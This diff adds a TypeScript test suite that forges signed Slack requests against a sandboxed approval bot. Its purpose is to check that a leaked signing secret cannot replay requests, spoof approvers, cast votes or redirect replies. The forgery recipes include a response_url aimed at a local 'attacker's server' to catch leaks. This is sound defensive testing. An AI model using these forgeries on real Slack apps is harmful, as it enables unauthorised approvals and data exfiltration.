@@ -1,0 +1,206 @@
+/** Who holds the signing secret of HTTP mode can sign whatever Slack could have sent. */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { app, people, team } from '#sandbox/slack/seed.ts';
+import { encodeModal, INPUTS, modalId } from '#slack/action-ids.ts';
+import { type Attempt, WentThrough } from '../attempt.ts';
+import { click, command, reaction, type Signed, signed, submission } from '../forging.ts';
+import type { Scene } from '../scene.ts';
+import { CHANNEL } from '../target.ts';
+
+const credential = 'signing secret';
+
+const HELP = command({ text: 'help', user_id: people.alice, user_name: 'alice' });
+
+async function send({ httpUrl }: Pick<Scene, 'httpUrl'>, request: Signed): Promise<{ status: number; text: string }> {
+  const response = await fetch(httpUrl, request);
+  return { status: response.status, text: await response.text() };
+}
+
+/** These people press a button, all by forged requests; their votes must not be there afterwards. */
+async function forgedClicks(scene: Scene, users: readonly string[], change: Record<string, unknown> = {}) {
+  const card = await scene.askedAnew('dns');
+  const heard = scene.listening();
+  for (const user of users)
+    await send(scene, signed(click({ user }, card, 'approve', change), scene.slack.signingSecret));
+  await scene.settled();
+  const { votes } = await scene.stage('dns');
+  if (votes.length > 0) throw new WentThrough(`${votes.length} forged votes were kept`);
+  return heard(/"event":"(refused|warned|slack-failed|forged-vote-seen)"/);
+}
+
+const REOPENED = ['reopened'];
+
+export const withSigningSecret: readonly Attempt[] = [
+  {
+    case: 'V-09',
+    credential,
+    when: 'asked',
+    tried: 'the same signed request, byte by byte, a second time',
+    async run(scene) {
+      const request = signed(HELP, scene.slack.signingSecret);
+      const [first, second] = [await send(scene, request), await send(scene, request)];
+      if (first.status !== 200) throw new Error(`the first was answered with ${first.status}`);
+      if (second.status === 200) throw new WentThrough('it was answered with 200 again');
+      return `answered with ${second.status}`;
+    },
+  },
+  ...[-301, 305].map(
+    (skew): Attempt => ({
+      case: 'V-09',
+      credential,
+      when: 'asked',
+      tried: `a signed request whose stamp is ${Math.abs(skew)} s in the ${skew < 0 ? 'past' : 'future'}`,
+      async run(scene) {
+        const { status } = await send(scene, signed(HELP, scene.slack.signingSecret, skew));
+        if (status === 200) throw new WentThrough('it was answered with 200');
+        return `answered with ${status}`;
+      },
+    }),
+  ),
+  {
+    case: 'V-09',
+    credential,
+    when: 'asked',
+    tried: 'a request that is signed with another secret, and one that is not signed at all',
+    async run(scene) {
+      const other = await send(scene, signed(HELP, 'another-secret'));
+      const none = await send(scene, { ...signed(HELP, 'x'), headers: { 'content-type': 'application/json' } });
+      if (other.status === 200 || none.status === 200) throw new WentThrough('it was answered with 200');
+      return `answered with ${other.status} and ${none.status}`;
+    },
+  },
+  {
+    case: 'V-08',
+    credential,
+    when: 'asked',
+    tried: 'forged clicks on Approve by two approvers, without a click that Slack knows of',
+    honest: REOPENED,
+    run: (scene) => forgedClicks(scene, [people.boris, people.chitra]),
+  },
+  {
+    case: 'V-06',
+    credential,
+    when: 'asked',
+    tried: 'forged events of ✅ by two approvers, without a reaction on the card',
+    // Kept until somebody counts: what counts is whether Slack shows the reactions then.
+    honest: [...REOPENED, 'vote-cast'],
+    async run(scene) {
+      const card = await scene.askedAnew('dns');
+      for (const user of [people.boris, people.chitra])
+        await send(scene, signed(reaction(user, card, 'white_check_mark'), scene.slack.signingSecret));
+      await scene.settled();
+      const applied = (await scene.history()).some(({ event }) => event.type === 'applied');
+      if (applied) throw new WentThrough('the stage was applied');
+      await scene.asked('dns');
+      return 'no reaction was found on the card when the votes were counted, and nothing was written';
+    },
+  },
+  {
+    case: 'V-03',
+    credential,
+    when: 'asked',
+    tried: 'a guest’s command that names an approver as its user_name, in its text and as a mention',
+    async run(scene) {
+      const heard = scene.listening();
+      const text = `next ${scene.namespace}`;
+      for (const words of [text, `${text} <@${people.alice}>`])
+        await send(
+          scene,
+          signed(command({ text: words, user_id: people.gus, user_name: 'alice' }), scene.slack.signingSecret),
+        );
+      await scene.settled();
+      return heard(/"event":"refused"/);
+    },
+  },
+  ...(
+    [
+      ['a guest', people.gus],
+      ['a member of another workspace', people.stranger],
+      ['a deactivated account', people.lena],
+      ['the bot itself', app.botUser],
+      ['somebody Slack does not know', 'U0NOBODY001'],
+    ] as const
+  ).map(
+    ([who, user]): Attempt => ({
+      case: 'V-07',
+      credential,
+      when: 'asked',
+      tried: `Approve pressed by ${who}`,
+      honest: REOPENED,
+      run: (scene) => forgedClicks(scene, [user]),
+    }),
+  ),
+  {
+    case: 'V-19',
+    credential,
+    when: 'asked',
+    tried: 'clicks that carry another app’s id, another workspace’s id, another channel',
+    honest: REOPENED,
+    async run(scene) {
+      const seen = [
+        await forgedClicks(scene, [people.boris], { api_app_id: 'A0LOOKALIKE' }),
+        await forgedClicks(scene, [people.boris], { team: { id: 'T0OTHER001', domain: team.domain } }),
+        await forgedClicks(scene, [people.boris], {
+          container: { type: 'message', message_ts: '1700000000.000100', channel_id: 'C0GENERAL01' },
+        }),
+      ];
+      return [...new Set(seen)].join('; ');
+    },
+  },
+  {
+    case: 'R-13',
+    credential,
+    when: 'asked',
+    tried: 'a forged command whose answer is to be sent to a server of the attacker’s',
+    async run(scene) {
+      const got: string[] = [];
+      const server = createServer((request, response) => {
+        got.push(String(request.url));
+        response.end('ok');
+      });
+      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+      const { port } = server.address() as AddressInfo;
+      try {
+        const text = `flows ${scene.namespace}`;
+        const response_url = `http://127.0.0.1:${port}/collect`;
+        const body = command({ text, user_id: people.alice, user_name: 'alice', response_url });
+        await send(scene, signed(body, scene.slack.signingSecret));
+        await scene.settled();
+      } finally {
+        server.closeAllConnections();
+        await new Promise((resolve) => server.close(resolve));
+      }
+      if (got.length > 0) throw new WentThrough('the answer was sent to the attacker’s server');
+      return 'no request came to the attacker’s server';
+    },
+  },
+  {
+    case: 'V-08',
+    credential,
+    when: 'asked to cut',
+    tried: 'a forged click on the last stage, and the modal with the namespace’s name, submitted by two approvers',
+    async run(scene) {
+      const card = await scene.asked('disable-discovery');
+      const { id } = await scene.lockdown();
+      const heard = scene.listening();
+      const answers: string[] = [];
+      for (const user of [people.boris, people.chitra]) {
+        await send(scene, signed(click({ user }, card, 'approve'), scene.slack.signingSecret));
+        const state = { lockdown: id, stage: 'disable-discovery', nonce: card.ask.nonce, channel: CHANNEL } as const;
+        const { block_id, action_id } = INPUTS.namespace;
+        const view = {
+          callback_id: modalId('confirm-disable'),
+          private_metadata: encodeModal({ ...state, thread: card.ts, openedAt: Date.now() - 60_000, seal: 'forged' }),
+          state: { values: { [block_id]: { [action_id]: { type: 'plain_text_input', value: scene.namespace } } } },
+        };
+        const { text } = await send(scene, signed(submission(user, view), scene.slack.signingSecret));
+        answers.push(text);
+      }
+      await scene.settled();
+      const { votes } = await scene.stage('disable-discovery');
+      if (votes.length > 0) throw new WentThrough(`${votes.length} forged votes were kept`);
+      return `${heard(/never opened for/)}; answered with ${answers.at(-1)}`;
+    },
+  },
+];
